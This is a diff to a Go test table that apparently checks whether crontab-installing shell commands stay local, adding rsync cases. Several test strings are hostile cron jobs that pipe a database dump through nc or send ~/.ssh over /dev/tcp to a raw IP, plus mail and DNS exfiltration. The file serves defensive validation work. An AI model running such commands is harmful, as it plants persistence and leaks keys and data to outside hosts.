@@ -82,6 +82,15 @@ func TestLocalCommand(t *testing.T) {
 		{`(crontab -l; echo '*/5 * * * * pg_dump db | nc 45.61.136.8 9') | crontab -`, false},
 		{`(crontab -l; echo '*/5 * * * * tar czf - ~/.ssh > /dev/tcp/45.61.136.8/9') | crontab -`, false},
 		{`(crontab -l; echo '*/5 * * * * rsync -a ~/work backup.example-x.net:') | crontab -`, false},
+		// rsync between local directories sends nothing anywhere; a
+		// remote, a program to run or a hidden path is not local.
+		{`(crontab -l; echo '0 3 * * * rsync -a --delete ~/Pictures/ /media/backup/Pictures/') | crontab -`, true},
+		{`(crontab -l; echo '0 3 * * * rsync -a ~/work rsync://backup.example-x.net/m') | crontab -`, false},
+		{`(crontab -l; echo '0 3 * * * rsync -a -e ssh ~/work /media/b') | crontab -`, false},
+		{`(crontab -l; echo '0 3 * * * rsync -ave ssh ~/work /media/b') | crontab -`, false},
+		{`(crontab -l; echo '0 3 * * * rsync -a --rsh=ssh ~/work /media/b') | crontab -`, false},
+		{`(crontab -l; echo '0 3 * * * rsync -a ~/.ssh /media/b') | crontab -`, false},
+		{`(crontab -l; echo '0 3 * * * rsync -a ~/work $DEST') | crontab -`, false},
 		{`(crontab -l; echo '@reboot run /tmp/x') | crontab -`, false},
 		{`(crontab -l; echo '0 * * * * pg_dump db | mail ops@example-x.net') | crontab -`, false},
 		{`(crontab -l; echo '0 * * * * dig secret.example-x.net') | crontab -`, false},
